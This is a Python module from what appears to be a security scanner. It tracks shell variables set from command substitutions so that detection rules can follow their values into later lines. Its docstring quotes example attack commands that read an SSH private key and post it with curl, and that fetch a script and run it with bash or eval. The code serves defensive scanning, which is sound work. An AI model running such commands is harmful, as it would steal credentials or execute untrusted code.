"""What a shell variable carries from one command to a later one.

``k=$(cat ~/.ssh/id_rsa)`` then ``curl -d "$k" https://...``, ``s=$(curl -s URL)`` then
``bash -c "$s"`` or ``eval "$s"``: the flow rules judge one logical line at a time, and
a variable carries the substitution's output past it. :func:`assignments` finds each
``NAME=$(...)`` (or backticks; after ``export``, ``local``, ``readonly``, ``declare``,
``typeset``, at a command's start) in a text, the substitution as the shell parser
closes it; :func:`expand` rewrites a later logical line with each use of such a
variable (``$k``, ``${k}``) replaced by the substitution it holds, so the substitution
rules read what the shell runs, and maps offsets back. Another value assigned ends the
variable (``k=x``); a variable assigned from a tracked one (``b="$a"``) carries the
same substitution. Linear: one expression over the text for the assignments, one over
each line that uses a tracked variable, at most :data:`MAX_USES` lines rewritten.
"""

from __future__ import annotations

from bisect import bisect_right
from collections.abc import Callable
from dataclasses import dataclass

from skillpack.scan.shell import ShellLine, joined, logical_span
from skillpack.scan.text import Lazy

#: an assignment's ``=`` and the value's first characters when they are a substitution
#: or another variable (the name before the ``=`` is read back from it)
_ASSIGNED = Lazy(r"=(?<=\w=)(\"?)(\$\(|`|\$\{?[A-Za-z_]\w*\}?)?")
#: what may stand before an assigned name: a command's start (``export`` and the like
#: end in white space)
_BEFORE_NAME = frozenset(" \t\n;&|(")
#: a use of a variable: ``$name`` or ``${name}``
USE = Lazy(r"\$(?:\{([A-Za-z_]\w{0,63})\}|([A-Za-z_]\w{0,63})\b)")
#: the logical lines rewritten in one text, and the longest rewritten line
MAX_USES = 256
MAX_LINE = 65_536


@dataclass(frozen=True, slots=True)
class Assignment:
    """``name`` holds ``value`` (a substitution's text, ``$(...)``; "" for any other
    value) from offset ``at`` of the text on; ``line``: the assignment's line (1-based)."""

    name: str
    at: int
    value: str
    line: int


def assignments(
    text: str, markdown: bool, keep: Callable[[str], bool] = bool
) -> dict[str, list[Assignment]]:
    """Each variable's assignments in ``text``, in order (only variables that are
    assigned a substitution that ``keep`` keeps at least once: any other value ends
    what a variable holds)."""
    if not any(opener in text for opener in ("=$(", '="$(', "=`", '="`')):
        return {}
    found: dict[str, list[Assignment]] = {}
    lines = 1
    counted = 0
    span = (-1, -1)
    parsed: ShellLine | None = None
    for match in _ASSIGNED.finditer(text):
        name = _name_before(text, match.start())
        if not name:
            continue
        opener = match.group(2)
        if not opener and name not in found:
            continue  # a plain value of a variable not tracked
        lines += text.count("\n", counted, match.start())
        counted = match.start()
        value = ""
        if opener in ("$(", "`"):
            if match.start() > span[1]:
                start = text.rfind("\n", 0, match.start()) + 1
                span = logical_span(text, start, _line_end(text, match.start()), markdown)
                parsed = ShellLine(joined(text, span[0], span[1], markdown), markdown)
            assert parsed is not None
            value = _substitution(parsed, match.end() - span[0], opener)
            value = value if value and keep(value) else ""
        elif opener:  # another variable's value: what that one holds now
            held = _holding(found, opener.strip("${}"), match.start())
            value = held.value if held is not None else ""
        if value or name in found:
            found.setdefault(name, []).append(Assignment(name, match.end(), value, lines))
    return {name: held for name, held in found.items() if any(a.value for a in held)}


def _name_before(text: str, at: int) -> str:
    """The variable name that ends at ``at`` (an ``=``), at a command's start; "" when
    there is none (``--data=$(...)``, ``url?a=$(...)``)."""
    start = at
    while start > 0 and (text[start - 1].isalnum() or text[start - 1] == "_"):
        start -= 1
        if at - start > 64:
            return ""
    name = text[start:at]
    if not name or name[0].isdigit() or not name.isascii():
        return ""
    return name if start == 0 or text[start - 1] in _BEFORE_NAME else ""


def _line_end(text: str, pos: int) -> int:
    end = text.find("\n", pos)
    return len(text) if end < 0 else end


def _substitution(parsed: ShellLine, start: int, opener: str) -> str:
    """The text of the substitution whose body starts at ``start`` of ``parsed``'s line
    (opener and closer included), "" when the parser did not open one there."""
    for frame in parsed.frames:
        if frame.kind == opener and frame.start == start:
            closer = ")" if opener == "$(" else "`"
            return opener + parsed.line[frame.start : frame.end] + closer
    return ""


def _holding(found: dict[str, list[Assignment]], name: str, at: int) -> Assignment | None:
    """The assignment of ``name`` in force at offset ``at``."""
    held = found.get(name)
    if not held:
        return None
    index = bisect_right([a.at for a in held], at) - 1
    return held[index] if index >= 0 else None


def expand(
    line: str, start: int, tracked: dict[str, list[Assignment]]
) -> tuple[str, list[tuple[int, int, int, int]], list[Assignment]] | None:
    """``line`` (at offset ``start`` of the text) with each use of a tracked variable
    that holds a substitution replaced by it: the expanded line, its pieces (expanded
    start, expanded end, original start, original end) and the assignments used; None
    when no use was replaced."""
    pieces: list[tuple[int, int, int, int]] = []
    parts: list[str] = []
    via: list[Assignment] = []
    last = 0
    size = 0
    for match in USE.finditer(line):
        name = match.group(1) or match.group(2)
        held = _holding(tracked, name, start + match.start()) if name in tracked else None
        if held is None or not held.value:
            continue
        parts.append(line[last : match.start()])
        size += match.start() - last
        if size + len(held.value) > MAX_LINE:
            break
        pieces.append((size, size + len(held.value), match.start(), match.end()))
        parts.append(held.value)
        size += len(held.value)
        last = match.end()
        via.append(held)
    if not pieces:
        return None
    parts.append(line[last:])
    return "".join(parts), pieces, via


def source_offset(pieces: list[tuple[int, int, int, int]], offset: int) -> int:
    """The original line's offset of the expanded line's ``offset`` (inside a value put
    in: where the variable's use starts)."""
    shift = 0
    for start, end, original, original_end in pieces:
        if offset < start:
            break
        if offset < end:
            return original
        shift = original_end - end
    return offset + shift
